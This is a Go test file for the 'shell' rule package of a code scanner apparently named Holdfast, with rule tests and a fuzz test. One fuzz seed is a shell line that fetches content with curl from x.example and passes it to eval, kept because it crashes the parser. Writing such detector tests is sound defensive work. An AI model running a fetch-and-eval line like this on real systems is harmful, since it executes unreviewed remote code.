// Copyright 2026 The Holdfast Authors
// SPDX-License-Identifier: Apache-2.0

package shell

import (
	"testing"

	"github.com/holdfast-dev/holdfast/internal/coderule/ruletest"
)

var finder = ruletest.Finder(Find)

func TestRules(t *testing.T) { finder.Rules(t, "shell-", Rules()) }

func FuzzFind(f *testing.F) {
	f.Add(`X=$((curl-s x.example); eval "$X"`) // the library's parser panics
	finder.Fuzz(f, Rules())
}
